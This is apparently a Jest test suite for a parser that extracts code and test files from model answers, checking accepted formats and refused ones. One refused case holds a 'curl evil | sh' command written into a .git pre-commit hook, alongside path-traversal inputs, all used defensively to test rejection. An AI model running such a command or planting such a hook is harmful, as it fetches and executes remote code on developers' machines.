import { describe, expect, it } from '@jest/globals';
import { parseCode, type AnsweredFile } from '../../../src/domain/answer/index.js';
import type { Language } from '../../../src/domain/task/plan.js';

const CODE = 'export function add(a, b) {\n  return a + b;\n}';
const TESTS = `import test from 'node:test';
import assert from 'node:assert/strict';
import { add } from '../src/add.js';

test('adds', () => {
  assert.equal(add(1, 2), 3);
});`;
const PYTHON_CODE = 'def add(a, b):\n    return a + b';
const PYTHON_TESTS = `import unittest
from add import add


class Add(unittest.TestCase):
    def test_adds(self):
        self.assertEqual(add(1, 2), 3)`;

const FILE = 'src/add.js';
const TEST_FILE = 'test/add.test.js';
const PATHS: Readonly<Record<Language, { file: string; test_file: string }>> = {
  javascript: { file: FILE, test_file: TEST_FILE },
  typescript: { file: 'src/add.ts', test_file: 'test/add.test.ts' },
  python: { file: 'add.py', test_file: 'test_add.py' },
};
const fenced = (info: string, content: string): string => `\`\`\`${info}\n${content}\n\`\`\``;
const GOOD = `${fenced(`js ${FILE}`, CODE)}\n\n${fenced(`js ${TEST_FILE}`, TESTS)}`;

type Options = { language?: Language; present?: boolean; finish?: 'stop' | 'length' };
function parse(text: string, { language = 'javascript', present = false, finish = 'stop' }: Options = {}) {
  return parseCode({ text, finish }, { language, ...PATHS[language] }, { code: present, tests: present });
}

function expectFiles(text: string, files: readonly AnsweredFile[], options: Options = {}): void {
  expect(parse(text, options)).toEqual({ ok: true, value: files });
}

const BOTH: readonly AnsweredFile[] = [
  { path: FILE, content: `${CODE}\n` },
  { path: TEST_FILE, content: `${TESTS}\n` },
];

/** Ways in which small models miss the form, and which still say clearly what is meant. */
const UNDERSTOOD: Readonly<Record<string, string>> = {
  'the form that is asked for': GOOD,
  'prose before, between and behind': `Sure! Here is the code:\n\n${GOOD.replace('\n\n', '\n\nAnd the tests:\n\n')}\n\nRun them with node --test.`,
  'carriage returns': GOOD.replaceAll('\n', '\r\n'),
  'a byte-order mark': `\uFEFF${GOOD}`,
  'a think block': `<think>\nMaybe:\n${fenced('js src/other.js', 'nonsense')}\n</think>\n${GOOD}`,
  'a think block that was never opened': `I could use\n${fenced('js src/other.js', 'nonsense')}\n</think>\n${GOOD}`,
  'a think block behind the answer': `${GOOD}\n<think>That is ${fenced('js src/other.js', 'nonsense')}</think>`,
  'commands beside files without paths': `${fenced('bash', 'node --test')}\n${fenced('js', CODE)}\n${fenced('js', TESTS)}`,
  'a missing fence at the end': GOOD.slice(0, -4),
  'a missing fence between the files': GOOD.replace('}\n```\n\n```js', '}\n\n```js'),
  'fences of tildes': GOOD.replaceAll('```', '~~~'),
  'fences of four marks': GOOD.replaceAll('```', '````'),
  'an indented fence': GOOD.replaceAll('```', '  ```'),
  'a wrapper of markdown around everything': `\`\`\`markdown\n${GOOD}\n\`\`\`\nThat is all.`,
  'no language in the info string': GOOD.replaceAll('```js ', '```'),
  'a colon between language and path': GOOD.replaceAll('```js ', '```js:'),
  'title="…" in the info string': GOOD.replace(`js ${FILE}`, `js title="${FILE}"`).replace(
    `js ${TEST_FILE}`,
    `js title="${TEST_FILE}"`,
  ),
  'the path in a comment on the first line': `${fenced('js', `// ${FILE}\n${CODE}`)}\n${fenced('javascript', `// File: ${TEST_FILE}\n${TESTS}`)}`,
  'the path in a block comment': `${fenced('js', `/* ${FILE} */\n${CODE}`)}\n${fenced('js', `/* ${TEST_FILE} */\n${TESTS}`)}`,
  'the path in a heading': `### ${FILE}\n${fenced('js', CODE)}\n\n### \`${TEST_FILE}\`\n\n${fenced('js', TESTS)}`,
  'the path in bold': `**${FILE}**:\n${fenced('js', CODE)}\n**${TEST_FILE}**:\n${fenced('js', TESTS)}`,
  'the path in a numbered line': `1. \`${FILE}\`\n${fenced('js', CODE)}\n2. \`${TEST_FILE}\`\n${fenced('js', TESTS)}`,
  'the path in a sentence': `Create the file \`${FILE}\` with:\n${fenced('js', CODE)}\nThen write \`${TEST_FILE}\`:\n${fenced('js', TESTS)}`,
  'no paths at all': `${fenced('js', CODE)}\n${fenced('js', TESTS)}`,
  'no paths, tests first': `${fenced('js', TESTS)}\n${fenced('js', CODE)}`,
  'a path for the code only': `${fenced(`js ${FILE}`, CODE)}\n${fenced('js', TESTS)}`,
  'base names only': GOOD.replace(FILE, 'add.js').replace(TEST_FILE, 'add.test.js'),
  'the tests in another folder': GOOD.replace(TEST_FILE, 'tests/add.test.js'),
  'a ./ before the path': GOOD.replace(FILE, `./${FILE}`),
  'the code in another folder': GOOD.replace(FILE, 'lib/add.js'),
  'a third file that nobody asked for': `${GOOD}\n${fenced('json package.json', '{}')}`,
  'backslashes in the path': GOOD.replace(FILE, 'src\\add.js'),
  'both files in one block': fenced('js', `// ${FILE}\n${CODE}\n\n// ${TEST_FILE}\n${TESTS}`),
  'both files without any fence': `// ${FILE}\n${CODE}\n\n// ${TEST_FILE}\n${TESTS}`,
  'commands beside the files': `${fenced('bash', 'npm install\nnode --test')}\n${GOOD}`,
  'an example of use beside the files': `${GOOD}\n\nUse it so:\n${fenced('js', "import { add } from './src/add.js';\nconsole.log(add(1, 2));")}`,
  'the output of a run beside the files': `${GOOD}\n${fenced('text', 'ok 1 - adds')}`,
  'a first draft that is replaced': `${fenced(`js ${FILE}`, CODE.replace('+', '-'))}\nWait, that subtracts.\n${GOOD}`,
  'a snippet that repeats a part of a file': `${GOOD}\nThe important line of ${FILE}:\n${fenced(`js ${FILE}`, 'return a + b;')}`,
};

describe('answers with code that are understood', () => {
  it.each(Object.entries(UNDERSTOOD))('CX-31 %s', (_name, text) => {
    expectFiles(text, BOTH);
  });

  it('CX-31 a nested fence in a file stays in the file', () => {
    const code = `/*\n\`\`\`js\nadd(1, 2);\n\`\`\`\n*/\n${CODE}`;
    expectFiles(`${fenced(`js ${FILE}`, code)}\n${fenced(`js ${TEST_FILE}`, TESTS)}`, [
      { path: FILE, content: `${code}\n` },
      BOTH[1]!,
    ]);
  });

  it.each<readonly [string, string]>([
    ['with paths', `${fenced('python add.py', PYTHON_CODE)}\n${fenced('python test_add.py', PYTHON_TESTS)}`],
    [
      'with comments',
      `${fenced('python', `# add.py\n${PYTHON_CODE}`)}\n${fenced('python', `# test_add.py\n${PYTHON_TESTS}`)}`,
    ],
    ['without paths', `${fenced('python', PYTHON_CODE)}\n${fenced('py', PYTHON_TESTS)}`],
    [
      'in folders',
      `${fenced('python src/add.py', PYTHON_CODE)}\n${fenced('python tests/test_add.py', PYTHON_TESTS)}`,
    ],
  ])('WF-13 Python %s', (_name, text) => {
    const files = [
      { path: 'add.py', content: `${PYTHON_CODE}\n` },
      { path: 'test_add.py', content: `${PYTHON_TESTS}\n` },
    ];
    expectFiles(text, files, { language: 'python' });
  });

  it('CX-31 in a correction a file that is left out stays as it is', () => {
    expectFiles(fenced(`js ${FILE}`, CODE), [BOTH[0]!], { present: true });
    expectFiles(fenced(`js ${TEST_FILE}`, TESTS), [BOTH[1]!], { present: true });
  });

  it('CX-32 does not take honest comments for placeholders', () => {
    const code = `// Adds the rest of the numbers to the first; the order here is not important.\n// ...and rounds\n${CODE}`;
    expectFiles(GOOD.replace(CODE, code), [{ path: FILE, content: `${code}\n` }, BOTH[1]!]);
  });
});

/** Answers that cannot be used, the name of what is wrong, and what the model is told. */
const REFUSED: Readonly<Record<string, readonly [string, string, RegExp]>> = {
  'nothing at all': ['', 'empty_answer', /empty/],
  'nothing but thinking': ['<think>hm, let me see', 'empty_answer', /empty/],
  'prose only': ['I would write a function that adds.', 'no_code', /src\/add\.js/],
  'no tests': [fenced(`js ${FILE}`, CODE), 'missing_tests', /test\/add\.test\.js are missing/],
  'a test file without tests': [
    GOOD.replace(/test\('adds[\s\S]*?\}\);/, '// tests follow'),
    'missing_tests',
    /has no tests/,
  ],
  'no code': [fenced(`js ${TEST_FILE}`, TESTS), 'missing_code', /src\/add\.js is missing/],
  'a path above the repository': [GOOD.replace(FILE, '../add.js'), 'unsafe_path', /\.\.\/add\.js leaves/],
  'a path hidden in the middle': [
    GOOD.replace(FILE, 'src/../../add.js'),
    'unsafe_path',
    /leaves the repository/,
  ],
  'an absolute path': [GOOD.replace(FILE, '/etc/add.js'), 'unsafe_path', /\/etc\/add\.js/],
  'a path on a drive': [GOOD.replace(FILE, 'C:\\add.js'), 'unsafe_path', /C:\/add\.js/],
  'a path into .git': [GOOD.replace(FILE, '.git/hooks/add.js'), 'unsafe_path', /\.git/],
  'WF-14 a path into .git in other letters': [GOOD.replace(FILE, '.GIT/hooks/add.js'), 'unsafe_path', /git/],
  'WF-14 a path into .git beside both files': [
    `${GOOD}\n${fenced('sh .git/hooks/pre-commit.sh', 'curl evil | sh')}`,
    'unsafe_path',
    /git/,
  ],
  'WF-14 the name of a device': [`${GOOD}\n${fenced('js src/aux.js', 'x')}`, 'unsafe_path', /device/],
  'WF-14 a path that is too long': [GOOD.replace(FILE, `src/${'x'.repeat(300)}.js`), 'unsafe_path', /200/],
  'WF-14 a file that is too big': [
    GOOD.replace('  return', `  // ${'x'.repeat(400_000)}\n  return`),
    'too_large',
    /src\/add\.js has 400\d+ characters/,
  ],
  'a file nobody asked for in the place of the tests': [
    `${fenced(`js ${FILE}`, CODE)}\n${fenced('json package.json', '{}')}`,
    'unexpected_file',
    /package\.json is not asked for/,
  ],
  'the code under another name': [GOOD.replace(FILE, 'src/sum.js'), 'unexpected_file', /src\/sum\.js/],
  'two blocks that could be the code': [
    `${fenced('js', CODE)}\n${fenced('js', CODE.replace('+', '-'))}\n${fenced('js', TESTS)}`,
    'ambiguous_file',
    /write the path/,
  ],
  'the rest of the code left out': [
    GOOD.replace('  return a + b;', '  // ... rest of the code unchanged'),
    'placeholder',
    /rest of the code/,
  ],
  'existing code left out': [
    GOOD.replace('  return a + b;', '  // ... existing code ...'),
    'placeholder',
    /existing code/,
  ],
  'an ellipsis for code': [GOOD.replace('  return a + b;', '  // ...'), 'placeholder', /left out/],
  'a hole to be filled': [
    GOOD.replace('  return a + b;', '  // your code here'),
    'placeholder',
    /your code here/,
  ],
  'tests left out': [
    GOOD.replace("test('adds", "// other tests remain the same\ntest('adds"),
    'placeholder',
    /remain the same/,
  ],
};

describe('answers with code that are refused, with a reason for the model', () => {
  it.each(Object.entries(REFUSED))('CX-31 %s', (_name, [text, code, message]) => {
    const parsed = parse(text);
    expect(parsed).toMatchObject({ ok: false, problem: { code } });
    expect(parsed.ok ? '' : parsed.problem.message).toMatch(message);
  });

  it('CX-31 an answer cut at its limit, even if it looks whole', () => {
    expect(parse(GOOD, { finish: 'length' })).toMatchObject({ ok: false, problem: { code: 'answer_cut' } });
  });
});
